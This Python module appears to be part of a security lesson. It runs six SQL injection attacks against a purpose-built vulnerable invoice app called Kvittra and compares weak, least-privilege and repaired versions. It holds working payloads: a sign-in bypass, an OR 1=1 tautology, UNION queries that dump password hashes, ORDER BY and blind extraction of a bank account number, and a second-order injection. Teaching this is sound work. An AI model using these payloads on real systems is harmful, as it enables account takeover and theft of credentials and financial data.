"""A visitor of Kvittra who types what should not be typed, and six ways to do it.

Everything goes through the service's own pages and forms, in process: requests are handed to the
application as a server would hand them over. An attempt is judged by what came back.
"""

from __future__ import annotations

import re
import sqlite3
from collections.abc import Callable, Collection, Mapping
from dataclasses import dataclass
from functools import wraps
from typing import Any

from labs.attacks.sql_injection.blind import extract
from labs.browser import parse_document
from labs.kvittra import create_app, seed
from labs.kvittra.app import Kvittra
from labs.kvittra.cast import STAFF, USERS
from labs.kvittra.database import authorize
from labs.kvittra.weaknesses import Edition

HOME = "https://kvittra.example"
NOON = 1_794_830_400.0  # 2026-11-16 12:00 UTC

_EMAILS = {someone.id: someone.email for someone in (*USERS, *STAFF)}


@dataclass(frozen=True)
class Attempt:
    """What an attack typed, and what came of it.

    Args:
        attack: Its name.
        typed: What went into the field.
        got: What came back that should not have; empty when it was stopped.
        questions: Requests that carried an injected text.
    """

    attack: str
    typed: str
    got: tuple[str, ...]
    questions: int = 1

    @property
    def succeeded(self) -> bool:
        """Whether anything came back."""
        return bool(self.got)


class Visitor:
    """Somebody at a keyboard, with a cookie jar.

    Args:
        service: The Kvittra to visit.
        user: Who signs in, by id; nobody by default.
    """

    def __init__(self, service: Kvittra, user: str | None = None) -> None:
        self._client = service.test_client()
        if user is not None:
            self.submit("/sign-in", email=_EMAILS[user], password=seed.PASSWORDS[user])

    def get(self, path: str, **query: str) -> str:
        """Open a page; its HTML."""
        page = self._client.get(path, query_string=query, base_url=HOME)
        return page.get_data(as_text=True)

    def submit(self, path: str, **fields: str) -> str:
        """Open a page, fill in its form and send it; the HTML of the answer."""
        found = re.search(r'name="csrf_token" value="(\w+)"', self.get(path))
        answer = self._client.post(
            path,
            data={"csrf_token": found[1] if found else "", **fields},
            base_url=HOME,
            headers={"Origin": HOME, "Sec-Fetch-Site": "same-origin"},
        )
        return answer.get_data(as_text=True)

    def numbers(self, **query: str) -> list[int]:
        """The numbers of the invoices that the list shows, in its order."""
        return [
            int(one) for one in re.findall(r'"/invoices/(\d+)"', self.get("/invoices", **query))
        ]

    def rows(self, path: str, **query: str) -> list[tuple[str, ...]]:
        """The cells of the table that a page shows."""
        document = parse_document(self.get(path, **query))
        return [
            tuple(cell.text.strip() for cell in row.find_all("td"))
            for row in document.find_all("tbody tr")
        ]


def sign_in_bypass(service: Kvittra) -> Attempt:
    """Sign in as the head of operations, whose password nobody told us."""
    typed = "aksel@kvittra.example' --"
    visitor = Visitor(service)
    visitor.submit("/sign-in", email=typed, password="unknown")
    found = re.search(r"as (\S+@\S+)\.", visitor.get("/profile"))
    return Attempt("sign-in bypass", typed, (f"signed in as {found[1]}",) if found else ())


def others_invoices(service: Kvittra) -> Attempt:
    """As Otto of the bakery, search in everybody's invoices."""
    typed = "%' OR 1=1 --"
    numbers = set(Visitor(service, "otto").numbers(q=typed))
    own = set(Visitor(service, "otto").numbers())
    return Attempt(
        "others' invoices", typed, tuple(f"invoice {one}" for one in sorted(numbers - own))
    )


def password_records(service: Kvittra) -> Attempt:
    """As Otto, put the table of users below the search results."""
    typed = "zz' UNION SELECT 1, email, password_hash, '', '', 0, '', '' FROM users --"
    rows = Visitor(service, "otto").rows("/invoices", q=typed)
    return Attempt(
        "password table", typed, tuple(f"{row[1]} {row[2]}" for row in rows if "$argon2" in row[2])
    )


def order_by(service: Kvittra) -> Attempt:
    """As Otto, read a secret from the order of his own invoices: sorted up means yes."""
    otto = Visitor(service, "otto")
    typed = "CASE WHEN … THEN number ELSE -number END"

    def ask(condition: str) -> bool:
        numbers = otto.numbers(sort=typed.replace("…", condition))
        return len(numbers) > 1 and numbers == sorted(numbers)

    secret = "(SELECT substr(iban, 1, 4) FROM customers WHERE id = 'korklang')"
    read = extract(ask, secret)
    return Attempt("ORDER BY", typed, _plausible(read.text, 4), read.questions)


def blind(service: Kvittra) -> Attempt:
    """As Otto, read the choir's bank account from a page that says yes or no."""
    otto = Visitor(service, "otto")
    typed = "' OR (…) --"

    def ask(condition: str) -> bool:
        return "Yes, it is taken" in otto.get(
            "/invoices/number", number=typed.replace("…", condition)
        )

    read = extract(ask, "(SELECT iban FROM customers WHERE id = 'korklang')")
    return Attempt("blind", typed, _plausible(read.text, 12), read.questions)


def second_order(service: Kvittra) -> Attempt:
    """As Otto, take a name that waits for the page which will paste it into a query."""
    typed = "x' UNION SELECT email, password_hash FROM users --"
    otto = Visitor(service, "otto")
    otto.submit("/profile", name=typed, website="", about="")
    page = parse_document(otto.get("/activity"))
    found = [item.text.strip() for item in page.find_all("main li")]
    return Attempt("second-order", typed, tuple(one for one in found if "$argon2" in one))


def _plausible(read: str, letters: int) -> tuple[str, ...]:
    """What was read, if it is a text: a page that answers always the same reads as nonsense."""
    return (read,) if len(read) >= letters and read.isprintable() and set(read) > {"0"} else ()


@dataclass(frozen=True)
class Attack:
    """One way in: the weakness of Kvittra that it needs, and the tables that the page needs.

    Args:
        run: Does it, and says what came of it.
        weakness: The name of the weakness in Kvittra's register.
        queries: The part of Kvittra that sends the statement.
        needs: The tables that this part has to read for its honest work.
    """

    run: Callable[[Kvittra], Attempt]
    weakness: str
    queries: str
    needs: tuple[str, ...]


ATTACKS: Mapping[str, Attack] = {
    "sign-in bypass": Attack(sign_in_bypass, "sql_injection_sign_in", "authenticate", ("users",)),
    "others' invoices": Attack(
        others_invoices, "sql_injection_search", "find_invoices", ("invoices",)
    ),
    "password table": Attack(
        password_records, "sql_injection_search", "find_invoices", ("invoices",)
    ),
    "ORDER BY": Attack(order_by, "sql_injection_order_by", "find_invoices", ("invoices",)),
    "blind": Attack(blind, "sql_injection_blind", "number_taken", ("invoices",)),
    "second-order": Attack(
        second_order, "sql_injection_second_order", "activity_of", ("activity",)
    ),
}
"""The attacks of the lesson by name."""

EDITIONS = ("weak", "narrow", "repaired")
"""Kvittra with the weakness; the same on a connection of least privilege; and repaired."""


def kvittra_for(name: str, edition: str = "weak") -> Kvittra:
    """The Kvittra that an attack meets.

    Args:
        name: The attack, see ``ATTACKS``.
        edition: One of ``EDITIONS``.

    Raises:
        ValueError: If there is no such attack or edition.
    """
    if name not in ATTACKS:
        raise ValueError(f"name must be one of {', '.join(ATTACKS)}, not {name!r}")
    if edition not in EDITIONS:
        raise ValueError(f"edition must be one of {', '.join(EDITIONS)}, not {edition!r}")
    attack = ATTACKS[name]
    weak = () if edition == "repaired" else (attack.weakness,)
    replace = {}
    if edition == "narrow":
        part = getattr(Edition(weak), attack.queries)
        replace[attack.queries] = narrowed(part, attack.needs)
    service: Kvittra = create_app(weak, clock=lambda: NOON, seed=1, replace=replace)
    return service


def attempt(name: str, edition: str = "weak") -> Attempt:
    """Try an attack on a fresh Kvittra.

    >>> attempt("sign-in bypass").got
    ('signed in as aksel@kvittra.example',)
    >>> attempt("sign-in bypass", "repaired").succeeded
    False
    """
    service = kvittra_for(name, edition)
    return ATTACKS[name].run(service)


def narrowed(part: Callable[..., Any], tables: Collection[str]) -> Callable[..., Any]:
    """The same part of Kvittra on a connection that may only read ``tables``.

    SQLite has no users and grants; its authorizer is asked before each statement is compiled, and
    does here what ``GRANT SELECT ON …`` does in a database server.

    Args:
        part: A function whose first argument is the connection.
        tables: What it may read; it may write nothing.
    """
    readable = frozenset(tables)

    def only(action: int, first: str | None, *rest: Any) -> int:
        if action == sqlite3.SQLITE_READ and first not in readable:
            return sqlite3.SQLITE_DENY
        if action in (sqlite3.SQLITE_INSERT, sqlite3.SQLITE_UPDATE, sqlite3.SQLITE_DELETE):
            return sqlite3.SQLITE_DENY
        return authorize(action, first, *rest)

    @wraps(part)
    def on_narrow_connection(connection: sqlite3.Connection, *others: Any) -> Any:
        connection.set_authorizer(only)
        try:
            return part(connection, *others)
        finally:
            connection.set_authorizer(authorize)

    return on_narrow_connection
